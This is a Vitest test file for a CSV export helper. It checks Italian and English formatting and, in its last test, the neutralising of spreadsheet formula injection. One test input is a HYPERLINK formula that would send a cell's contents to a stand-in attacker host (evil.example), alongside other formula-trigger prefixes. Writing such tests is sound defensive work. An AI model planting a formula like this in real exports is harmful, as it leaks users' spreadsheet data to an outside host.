import { describe, expect, it } from 'vitest';
import { percentNumber, toCsv } from './csv.js';

describe('toCsv', () => {
  const rows = [
    ['La Fraternità', 25, 88.5],
    ['Rekeep; S.p.A.', 15, percentNumber(0.1234)],
    ['Il "Melo"', null, 3000],
  ];

  it('writes Italian CSV: semicolons, decimal comma, numbers as numbers, quotes where needed, empty cells for null', () => {
    expect(toCsv(['azienda', 'inserimenti', 'quota (%)'], rows, 'it')).toBe(
      'azienda;inserimenti;quota (%)\r\nLa Fraternità;25;88,5\r\n"Rekeep; S.p.A.";15;12,3\r\n"Il ""Melo""";;3000\r\n',
    );
  });

  it('writes English CSV with commas and decimal points', () => {
    expect(toCsv(['company', 'placements', 'share (%)'], [['Rekeep, S.p.A.', 15, 12.3]], 'en')).toBe(
      'company,placements,share (%)\r\n"Rekeep, S.p.A.",15,12.3\r\n',
    );
  });

  it('neutralises text cells a spreadsheet would run as a formula, keeping numbers', () => {
    expect(
      toCsv(
        ['nome', 'valore'],
        [
          ['=HYPERLINK("http://evil.example/?"&A1,"Apri")', -5],
          ['+39 051 123456', 1.5],
          ['-2+3', 0],
          ['@SUM(A1:A9)', null],
          ['\tcmd', 2],
          ['\r=1+1', 3],
          ['Rossi-Bianchi', 4],
        ],
        'en',
      ),
    ).toBe(
      'nome,valore\r\n' +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""Apri"")",-5\r\n` +
        "'+39 051 123456,1.5\r\n" +
        "'-2+3,0\r\n" +
        "'@SUM(A1:A9),\r\n" +
        `"'\tcmd",2\r\n` +
        `"'\r=1+1",3\r\n` +
        'Rossi-Bianchi,4\r\n',
    );
    expect(toCsv(['nome', 'valore'], [['=1+1', -2.5]], 'it')).toBe("nome;valore\r\n'=1+1;-2,5\r\n");
  });
});
